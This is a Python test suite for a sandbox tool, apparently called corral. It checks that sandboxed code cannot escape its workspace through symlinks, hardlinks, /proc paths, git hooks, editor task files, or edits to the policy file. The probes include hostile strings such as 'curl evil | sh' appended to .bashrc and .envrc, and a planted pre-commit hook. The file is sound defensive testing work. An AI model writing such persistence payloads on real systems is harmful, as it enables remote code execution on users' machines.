"""Filesystem escapes.  Evidence: what exists on the host after the run.

Each attack writes towards a host path the test checks afterwards; each allow
twin does the same kind of write where the policy allows it, and the test finds
the result on the host, so a sandbox that blocks every write cannot pass.
"""

# Probe programs are embedded one statement per line; wrapping them hurts more than long lines.
# ruff: noqa: E501

from __future__ import annotations

import os
import stat

import pytest

from .conftest import Box, host_user_file


def test_write_outside_workspace(box: Box) -> None:
    target = box.outside / "escaped.txt"
    r = box.py(
        f"attempt('attack', lambda: write({str(target)!r}))\nattempt('twin', lambda: write('in.txt', 'twin'))"
    )
    assert (box.ws / "in.txt").read_text() == "twin", r
    assert not target.exists(), r


def test_write_home(box: Box) -> None:
    rc = host_user_file(box, box.home / ".bashrc", "orig\n")
    r = box.py(
        f"attempt('attack', lambda: open({str(rc)!r}, 'a').write('curl evil | sh\\n'))\n"
        f"attempt('new', lambda: write({str(box.home / 'dropped')!r}))\n"
        "attempt('twin', lambda: write('in.txt', 'twin'))"
    )
    assert (box.ws / "in.txt").read_text() == "twin", r
    assert rc.read_text() == "orig\n" and not (box.home / "dropped").exists(), r


def test_symlink_out_of_workspace(box: Box) -> None:
    os.symlink(box.outside, box.ws / "out-link")
    (box.ws / "sub").mkdir()
    os.symlink("sub", box.ws / "in-link")
    box.own(box.ws / "sub")
    os.lchown(box.ws / "out-link", box.c.uid, box.c.gid)
    os.lchown(box.ws / "in-link", box.c.uid, box.c.gid)
    r = box.py(
        "attempt('attack', lambda: write('out-link/escaped.txt'))\n"
        "attempt('mklink', lambda: os.symlink('/', 'root-link'))\n"
        "attempt('attack2', lambda: write('root-link' + "
        f"{str(box.outside / 'escaped2.txt')!r}))\n"
        "attempt('twin', lambda: write('in-link/ok.txt', 'twin'))"
    )
    assert (box.ws / "sub" / "ok.txt").read_text() == "twin", r
    assert not (box.outside / "escaped.txt").exists(), r
    assert not (box.outside / "escaped2.txt").exists(), r


def test_hardlink_to_outside_file(box: Box) -> None:
    target = host_user_file(box, box.outside / "target.txt", "orig")
    host_user_file(box, box.ws / "a.txt", "orig")
    r = box.py(
        f"attempt('link', lambda: os.link({str(target)!r}, 'hl'))\n"
        "attempt('attack', lambda: write('hl', 'changed'))\n"
        "attempt('twin_link', lambda: os.link('a.txt', 'b.txt'))\n"
        "attempt('twin', lambda: write('b.txt', 'changed'))"
    )
    assert (box.ws / "a.txt").read_text() == "changed", r  # twin: a hard link inside works
    assert target.read_text() == "orig", r


def test_timestamps_outside_workspace(box: Box, request: pytest.FixtureRequest) -> None:
    target = host_user_file(box, box.outside / "stamp.txt", "s")
    os.utime(target, ns=(1_000_000_000_123_456_789, 1_000_000_000_123_456_789))
    host_user_file(box, box.ws / "mine.txt", "m")
    r = box.py(
        f"attempt('attack', lambda: os.utime({str(target)!r}, (1500000000, 1500000000)))\n"
        "attempt('twin', lambda: os.utime('mine.txt', (1500000000, 1500000000)))"
    )
    assert (box.ws / "mine.txt").stat().st_mtime == 1500000000, r  # twin: touch inside works
    if not box.has("mounts"):
        box.documented_gap(request, "timestamps")
    assert target.stat().st_mtime_ns == 1_000_000_000_123_456_789, r


def test_rename_out_of_workspace(box: Box) -> None:
    r = box.py(
        "write('moved.txt', 'm')\n"
        f"attempt('attack', lambda: os.rename('moved.txt', {str(box.outside / 'moved.txt')!r}))\n"
        "write('a.txt', 'a')\n"
        "attempt('twin', lambda: os.rename('a.txt', 'renamed.txt'))"
    )
    assert (box.ws / "renamed.txt").exists() and not (box.ws / "a.txt").exists(), r
    assert not (box.outside / "moved.txt").exists() and (box.ws / "moved.txt").exists(), r


def test_chmod_outside_file(box: Box) -> None:
    target = host_user_file(box, box.outside / "mode.txt", "m", 0o644)
    mine = host_user_file(box, box.ws / "mine.txt", "m", 0o644)
    r = box.py(
        f"attempt('attack', lambda: os.chmod({str(target)!r}, 0o777))\n"
        "attempt('twin', lambda: os.chmod('mine.txt', 0o600))\n"
        "attempt('twin_write', lambda: write('mine.txt', 'changed'))"
    )
    # twin: chmod inside works (landlock: through corral's supervisor)
    assert stat.S_IMODE(mine.stat().st_mode) == 0o600, r
    assert mine.read_text() == "changed", r
    assert stat.S_IMODE(target.stat().st_mode) == 0o644, r


def _git_init(box: Box, path: str = ".") -> None:
    """The skeleton ``git init`` leaves (corral protects any ``.git`` directory);
    written by hand so the case needs no git on the host."""
    git = box.ws / path / ".git"
    for sub in ("hooks", "info", "objects", "refs/heads"):
        (git / sub).mkdir(parents=True, exist_ok=True)
    (git / "HEAD").write_text("ref: refs/heads/main\n")
    (git / "config").write_text("[core]\n\trepositoryformatversion = 0\n\tbare = false\n")
    (git / "description").write_text("unnamed\n")
    box.own(box.ws)


def test_git_hooks_write(box: Box) -> None:
    _git_init(box)
    r = box.py(
        "attempt('attack', lambda: write('.git/hooks/pre-commit', '#!/bin/sh\\necho pwned'))\n"
        "attempt('twin', lambda: write('.git/COMMIT_EDITMSG', 'twin'))"
    )
    assert (box.ws / ".git" / "COMMIT_EDITMSG").read_text() == "twin", r
    assert not (box.ws / ".git" / "hooks" / "pre-commit").exists(), r


def test_git_config_write(box: Box) -> None:
    _git_init(box)
    before = (box.ws / ".git" / "config").read_text()
    r = box.py(
        "attempt('attack', lambda: open('.git/config', 'a').write('[core]\\n\\thooksPath = /tmp\\n'))\n"
        "attempt('twin', lambda: write('.git/description', 'twin'))"
    )
    assert (box.ws / ".git" / "description").read_text() == "twin", r
    assert (box.ws / ".git" / "config").read_text() == before, r


def test_nested_repo_hooks_write(box: Box) -> None:
    (box.ws / "vendor").mkdir()
    _git_init(box, "vendor/lib")
    r = box.py(
        "attempt('attack', lambda: write('vendor/lib/.git/hooks/post-checkout', 'pwned'))\n"
        "attempt('twin', lambda: write('vendor/lib/README', 'twin'))"
    )
    assert (box.ws / "vendor" / "lib" / "README").read_text() == "twin", r
    assert not (box.ws / "vendor" / "lib" / ".git" / "hooks" / "post-checkout").exists(), r


def test_editor_config_created(box: Box) -> None:
    """A missing ``.vscode`` created by the command must not stay in the workspace."""
    r = box.py(
        "os.makedirs('.vscode', exist_ok=True)\n"
        "attempt('attack', lambda: write('.vscode/tasks.json', '{\"runOn\": \"folderOpen\"}'))\n"
        "os.makedirs('notes', exist_ok=True)\n"
        "attempt('twin', lambda: write('notes/tasks.json', 'twin'))"
    )
    assert (box.ws / "notes" / "tasks.json").read_text() == "twin", r
    assert not (box.ws / ".vscode" / "tasks.json").exists(), r


def test_envrc_write(box: Box) -> None:
    envrc = host_user_file(box, box.ws / ".envrc", "orig\n")
    r = box.py(
        "attempt('attack', lambda: open('.envrc', 'a').write('curl evil | sh\\n'))\n"
        "attempt('twin', lambda: write('envrc.txt', 'twin'))"
    )
    assert (box.ws / "envrc.txt").read_text() == "twin", r
    assert envrc.read_text() == "orig\n", r


def test_policy_file_write(box: Box) -> None:
    policy = host_user_file(box, box.ws / "corral.toml", '[limits]\ntimeout = "60s"\n')
    before = policy.read_text()
    r = box.py(
        "attempt('attack', lambda: open('corral.toml', 'a').write('[network]\\nallow = [\"*\"]\\n'))\n"
        "attempt('twin', lambda: write('other.toml', 'twin'))"
    )
    assert (box.ws / "other.toml").read_text() == "twin", r
    assert policy.read_text() == before, r


def test_write_deny_path(box: Box) -> None:
    (box.ws / "deploy").mkdir()
    (box.ws / "src").mkdir()
    box.own(box.ws / "deploy", box.ws / "src")
    r = box.py(
        "attempt('attack', lambda: write('deploy/prod.sh', 'pwned'))\n"
        "attempt('twin', lambda: write('src/app.py', 'twin'))",
        "--write-deny",
        "deploy/",
    )
    assert (box.ws / "src" / "app.py").read_text() == "twin", r
    assert not (box.ws / "deploy" / "prod.sh").exists(), r


def test_proc_root_path(box: Box) -> None:
    """Paths through /proc/*/root and /proc/self/cwd meet the same mounts."""
    target = box.outside / "via-proc.txt"
    r = box.py(
        f"attempt('attack', lambda: write('/proc/1/root' + {str(target)!r}))\n"
        f"attempt('attack2', lambda: write('/proc/self/root' + {str(target)!r}))\n"
        "attempt('twin', lambda: write('/proc/self/cwd/via-cwd.txt', 'twin'))"
    )
    assert (box.ws / "via-cwd.txt").read_text() == "twin", r
    assert not target.exists(), r


def test_private_tmp(box: Box) -> None:
    """/tmp, /var/tmp and /dev/shm are the sandbox's own, or off limits; nothing lands on the host's."""
    names = [
        f"/tmp/corral-{box.token}",
        f"/var/tmp/corral-{box.token}",
        f"/dev/shm/corral-{box.token}",
    ]
    r = box.py(
        f"names = {names!r}\n"
        "for i, n in enumerate(names):\n"
        "    attempt(f'w{i}', lambda: write(n, 'x'))\n"
        "    attempt(f'r{i}', lambda: read(n))\n"
        "tmp = os.environ.get('TMPDIR', '/tmp')\n"
        "write(os.path.join(tmp, 'scratch'), 'x')\n"
        "print('twin=' + read(os.path.join(tmp, 'scratch')) + ':' + tmp)\n"
    )
    assert r.got.get("twin", "").startswith("x:"), r  # twin: a scratch directory works
    for i, name in enumerate(names):
        if box.has("private-tmp"):
            assert r.got.get(f"r{i}") == "ok:x", r  # twin: each is writable inside
        assert not os.path.exists(name), (name, r)
